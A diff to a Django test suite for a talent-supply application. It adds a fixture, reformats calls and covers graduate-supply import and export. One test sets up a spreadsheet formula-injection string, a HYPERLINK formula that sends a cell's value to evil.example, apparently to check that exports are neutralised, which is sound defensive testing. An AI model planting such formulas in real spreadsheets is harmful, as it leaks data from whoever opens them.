@@ -9,8 +9,11 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import TestCase
 from openpyxl import Workbook, load_workbook
 
+from leizu.core.tests.fixtures import tasks_run_at_once
 from leizu.talent import classification, services
 from leizu.talent.models import GraduateSupply, ImportJob, Posting, StatedNeed
+
+__all__ = ["tasks_run_at_once"]
 
 
 def test_the_classifier_page_shows_the_decision_and_its_evidence(coordinator):
@@ -125,7 +128,9 @@ def test_partner_staff_state_a_need_that_other_partners_cannot_reach(world, clie
     assert "Токари" not in clients["partner_b"].get("/talent/needs/").content.decode()
 
 
-def test_supply_is_edited_by_network_managers_and_imported_all_or_nothing(coordinator, clients):
+def test_supply_is_edited_by_network_managers_and_imported_all_or_nothing(
+    coordinator, clients, tasks_run_at_once
+):
     response = coordinator.post(
         "/talent/supply/new/",
         {"isced_f": "0723", "country": "TJ", "region": "TJ-SU", "year": 2025, "graduates": 90},
@@ -145,7 +150,9 @@ def test_supply_is_edited_by_network_managers_and_imported_all_or_nothing(coordi
 
     good = [["0723", "TJ", "TJ-SU", 2025, 95, "stat"], ["0715", "TJ", "", 2025, 40, "stat"]]
     bad = [*good, ["9999x", "TJ", "", 2025, 1, ""]]
-    page = coordinator.post("/talent/supply/import/", {"file": workbook(bad)}).content.decode()
+    page = coordinator.post(
+        "/talent/supply/import/", {"file": workbook(bad)}, follow=True
+    ).content.decode()
     assert "Nothing was saved" in page
     assert GraduateSupply.objects.get(country="TJ", isced_f="0723").graduates == 90
     assert coordinator.post("/talent/supply/import/", {"file": workbook(good)}).status_code == 302
@@ -158,7 +165,9 @@ def test_supply_is_edited_by_network_managers_and_imported_all_or_nothing(coordi
     assert [r for r in rows if r[:2] == ("0715", "TJ")] == [("0715", "TJ", None, 2025, 40, "stat")]
 
 
-def test_a_supply_source_is_exported_as_text_and_imported_back_unchanged(coordinator):
+def test_a_supply_source_is_exported_as_text_and_imported_back_unchanged(
+    coordinator, tasks_run_at_once
+):
     attack = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
     response = coordinator.post(
         "/talent/supply/new/",
